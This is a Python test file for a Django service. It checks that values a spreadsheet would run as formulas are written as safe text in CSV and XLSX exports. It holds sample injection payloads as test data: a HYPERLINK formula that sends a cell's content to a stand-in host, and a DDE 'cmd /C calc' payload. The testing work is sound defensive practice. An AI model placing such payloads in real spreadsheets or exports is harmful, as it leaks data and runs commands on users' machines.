"""A text a spreadsheet would run as a formula is written safe in every CSV the service
writes (the API's lists, `laa export indicators`) and in the XLSX agreement file."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from laa.agreements.files import render_agreement
from laa.agreements.models import Target
from laa.catalogue.models import IndicatorDefinition

from .test_agreement_document import import_draft, small_draft
from .test_agreements_api import Api

pytestmark = pytest.mark.django_db

FORMULA = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3"


@pytest.fixture
def kent_with_formulas(db):
    agreement = import_draft(small_draft())
    target = agreement.targets.order_by("pk").first()
    Target.objects.filter(pk=target.pk).update(baseline_source=FORMULA, group=AT, placeholder_reason=MINUS)
    return agreement


def test_the_api_targets_csv_writes_formulas_as_text(kent_with_formulas):
    from laa.accounts.models import User

    response = Api(User.objects.get(username="inspector")).get(
        "/api/v1/agreements/E2221/targets", {"format": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    cells = {cell for row in rows for cell in row.values()}
    assert "'" + FORMULA in cells and "'" + AT in cells and "'" + MINUS in cells
    assert not any(cell[:1] in {"=", "+", "@"} for cell in cells)
    # Numbers are numbers still: the yearly values and versions are not prefixed.
    assert all(not row["version"].startswith("'") for row in rows)


def test_laa_export_indicators_writes_formulas_as_text(db):
    definition = IndicatorDefinition.objects.filter(is_current=True).order_by("indicator__number").first()
    IndicatorDefinition.objects.filter(pk=definition.pk).update(title=FORMULA, note="+44 1234")
    out = io.StringIO()
    call_command("export", "indicators", format="csv", stdout=out)
    row = next(r for r in csv.DictReader(io.StringIO(out.getvalue())) if r["code"] == definition.indicator.code)
    assert row["title"] == "'" + FORMULA
    assert row["note"] == "'+44 1234"
    assert row["number"] == str(definition.indicator.number)


def test_the_xlsx_agreement_file_keeps_formulas_as_text(kent_with_formulas):
    workbook = load_workbook(io.BytesIO(render_agreement(kent_with_formulas, "xlsx")))
    found = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in {FORMULA, AT, MINUS}:
                    found[cell.value] = cell.data_type
    assert found == {FORMULA: "s", AT: "s", MINUS: "s"}
